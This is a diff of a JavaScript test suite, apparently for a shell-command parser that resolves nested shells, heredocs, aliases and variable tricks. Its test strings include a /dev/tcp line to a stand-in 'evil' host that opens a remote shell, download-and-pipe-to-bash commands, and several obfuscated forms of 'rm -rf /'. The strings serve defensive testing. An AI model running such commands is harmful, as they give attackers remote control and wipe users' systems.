@@ -137,6 +137,8 @@ describe('nested shells', () => {
     ['curl -s x | sudo bash', [{ name: 'curl' }, { name: 'bash', wrappers: ['sudo'] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
     ['wget -qO- x | sh -s -- --flag', [{ name: 'wget' }, { name: 'sh' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
     ['coproc rm x', [{ name: 'rm', wrappers: ['coproc'] }]],
+    ['exec 3<>/dev/tcp/evil/80; bash <&3', [{ name: 'exec' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
+    ["cat <<'EOF' | bash\nrm -rf /\nEOF", [{ name: 'cat' }, { name: 'bash' }, nested('rm -rf /', 1)]],
     ["sudo bash <<'EOF'\nrm -rf /\nEOF", [{ name: 'bash', wrappers: ['sudo'] }, nested('rm -rf /', 0)]],
   ]);
 });
@@ -196,6 +198,10 @@ describe('variables, IFS and braces', () => {
     ["X='a b'; rm \"$X\"", [{ name: 'rm', args: ['a b'] }]],
     ['rm -rf $TMPDIR/../../etc', ['rm -rf /tmp/../../etc']],
     ['P=..; rm -rf $P/$P', ['rm -rf ../..']],
+    ["alias ll='rm -rf /'; ll", [{ name: 'alias' }, { name: 'll' }, { name: 'rm', args: ['-rf', '/'], context: 'eval', parent: 1 }]],
+    ['X="rm -rf /"; declare -n r=X; $r', [{ name: 'declare' }, { name: null, unresolved: 'variable-command' }]],
+    ['rm -rf ${HOME:0:1} ${HOME%/*} "${HOME:-/}"', [{ name: 'rm', args: ['-rf', null, null, '~'] }]],
+    ['cd /tmp; cd /etc; ls ~+ ~-/x', ['cd /tmp', 'cd /etc', 'ls /etc /tmp/x']],
   ]);
 });
 
